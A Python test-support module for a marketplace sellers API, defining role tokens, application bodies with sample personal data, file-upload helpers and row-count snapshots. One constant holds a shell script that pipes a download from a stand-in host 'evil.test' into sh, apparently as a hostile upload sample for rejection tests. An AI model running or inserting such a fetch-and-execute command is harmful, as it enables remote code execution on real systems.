"""Set-up shared by the sellers API tests: the category tree, people in every role with a
bearer token each, request bodies, and row counts for "nothing changed" assertions.
(Holds no tests itself.)"""

from __future__ import annotations

import io
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from PIL import Image
from sqlalchemy import func, select

from galerie.db import Database
from galerie.identity import Permission
from galerie.kernel import FixedClock
from galerie.sellers.models import (
    ApplicationDocument,
    Brand,
    BrandAuthorisation,
    SellerApplication,
    Shop,
)
from tests.factories import make_token
from tests.integration.sellers.factories import HOME, People, counts, load_categories, make_people

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl http://evil.test/x | sh\n"
SELLER_PERMISSIONS = [p.value for p in Permission if p.value.startswith("seller.")]
OPERATOR_PERMISSIONS = [p.value for p in Permission if p.value.startswith("console.")]
SHOPPER_PERMISSIONS = ["account.view", "account.manage"]


@dataclass
class Callers:
    people: People
    headers: dict[str, dict[str, str]]

    @property
    def org(self) -> int:
        return self.people.org

    @property
    def rival_org(self) -> int:
        return self.people.rival_org

    def __getitem__(self, role: str) -> dict[str, str]:
        return self.headers[role]


async def token_for(
    db: Database, clock: FixedClock, people: People, role: str, organisation_id: int | None = None
) -> str:
    user_id = people[role].user_id
    if role in ("owner", "manager", "staff", "agency"):
        permissions, audience, org = SELLER_PERMISSIONS, "seller", organisation_id or people.org
    elif role == "rival":
        permissions, audience, org = SELLER_PERMISSIONS, "seller", people.rival_org
    elif role == "shopper":
        permissions, audience, org = SHOPPER_PERMISSIONS, "shopper", None
    else:
        permissions, audience, org = OPERATOR_PERMISSIONS, "operator", None
    return await make_token(
        db,
        user_id=user_id,
        now=clock.now(),
        permissions=permissions,
        audience=audience,
        organisation_id=org,
    )


@pytest.fixture
async def callers(db: Database, clock: FixedClock, tmp_path: Path) -> Callers:
    await load_categories(db, clock.now(), tmp_path)
    people = await make_people(db, clock.now())
    headers: dict[str, dict[str, str]] = {"anonymous": {}}
    for role in people.principals:
        token = await token_for(db, clock, people, role)
        headers[role] = {"Authorization": f"Bearer {token}"}
    return Callers(people, headers)


def application_body(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "applicant_kind": "individual",
        "legal_name": "Zhang Wei",
        "registration_number": "ID-310101199001011234",
        "country": "cn",
        "address": "1 Nanjing Road, Shanghai",
        "legal_representative": "Zhang Wei",
        "contact_email": "ZW@example.com",
        "contact_phone": "+86 21 5555 0101",
        "bank_account_holder": "Zhang Wei",
        "bank_account_number": "6222 0202 0011 2233",
        "shop_type": "individual",
        "category_ids": [HOME],
    }
    body.update(changes)
    return body


def picture_files() -> dict[str, Any]:
    """A small real PNG, as the logo or banner upload."""
    out = io.BytesIO()
    Image.new("RGB", (64, 64), (30, 60, 90)).save(out, format="PNG")
    return {"files": {"file": ("logo.png", out.getvalue(), "image/png")}}


def upload_files(
    content: bytes = PDF, filename: str = "id-card.pdf", kind: str = "legal_representative_id"
) -> dict[str, Any]:
    return {
        "files": {"file": (filename, content, "application/octet-stream")},
        "data": {"kind": kind, "valid_until": "2030-01-31"},
    }


async def state(db: Database) -> dict[str, object]:
    """The sellers rows (and outbox, succeeded audit records) that a refusal must not add
    or change."""
    found: dict[str, object] = dict(await counts(db))
    found.pop("audit_refused")  # refusals by role are audited, by design
    async with db.reading() as session:
        for name, model in {
            "documents": ApplicationDocument,
            "brands": Brand,
            "authorisations": BrandAuthorisation,
        }.items():
            found[name] = await session.scalar(select(func.count()).select_from(model)) or 0
        apps = await session.execute(
            select(
                SellerApplication.id,
                SellerApplication.status,
                SellerApplication.address,
                SellerApplication.assigned_reviewer_id,
            ).order_by(SellerApplication.id)
        )
        found["application_rows"] = [tuple(row) for row in apps]
        shops = await session.execute(
            select(
                Shop.id, Shop.status, Shop.slug, Shop.name, Shop.deposit_held_minor, Shop.logo_key
            ).order_by(Shop.id)
        )
        found["shop_rows"] = [tuple(row) for row in shops]
    return found


async def call(
    client: httpx.AsyncClient,
    method: str,
    path: str,
    headers: dict[str, str],
    body: dict[str, Any] | None = None,
    files: dict[str, Any] | None = None,
) -> httpx.Response:
    if files is not None:
        return await client.request(method, path, headers=headers, **files)
    return await client.request(method, path, headers=headers, json=body)
